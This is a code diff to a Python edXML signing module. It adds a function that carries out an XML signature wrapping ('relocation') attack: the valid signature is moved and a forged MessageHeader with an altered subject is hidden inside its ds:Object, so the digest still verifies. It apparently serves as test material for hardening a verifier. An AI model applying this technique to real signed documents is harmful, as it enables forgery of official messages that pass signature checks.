@@ -13,6 +13,7 @@ from __future__ import annotations
 import asyncio
 import base64
 import contextlib
+import copy
 import datetime as dt
 import io
 from dataclasses import dataclass, field
@@ -536,6 +537,35 @@ def sign_edxml(
         placeholder.getparent().replace(placeholder, replacement)  # type: ignore[union-attr]
     signed = xml_signer.sign(root, key=key_pem(signer.key), cert=certs)
     return etree.tostring(signed, xml_declaration=True, encoding="UTF-8")
+
+
+def relocate_signature(signed: bytes, forged_subject: str = "Bản giả mạo") -> bytes:
+    """The relocation attack: the untouched Signature moved to be the edXML root's first
+    child, a forged ``edXMLEnvelope/edXMLHeader/MessageHeader`` hidden in its ``ds:Object``.
+
+    The enveloped transform drops the whole Signature, so the digest still matches; a reader
+    that takes the first MessageHeader of the document reads the forged one.
+    """
+    root = etree.fromstring(signed)
+    signature = root.find(f".//{{{DS_NS}}}Signature")
+    header = root.find(f".//{{{EDXML_NS}}}MessageHeader")
+    assert signature is not None and header is not None
+    signature.getparent().remove(signature)  # type: ignore[union-attr]
+    forged = etree.SubElement(
+        etree.SubElement(
+            etree.SubElement(
+                etree.SubElement(signature, f"{{{DS_NS}}}Object"), f"{{{EDXML_NS}}}edXMLEnvelope"
+            ),
+            f"{{{EDXML_NS}}}edXMLHeader",
+        ),
+        f"{{{EDXML_NS}}}MessageHeader",
+    )
+    forged.extend(copy.deepcopy(list(header)))
+    subject = forged.find(f"{{{EDXML_NS}}}Subject")
+    assert subject is not None
+    subject.text = forged_subject
+    root.insert(0, signature)
+    return etree.tostring(root, xml_declaration=True, encoding="UTF-8")
 
 
 XADES_NS = "http://uri.etsi.org/01903/v1.3.2#"
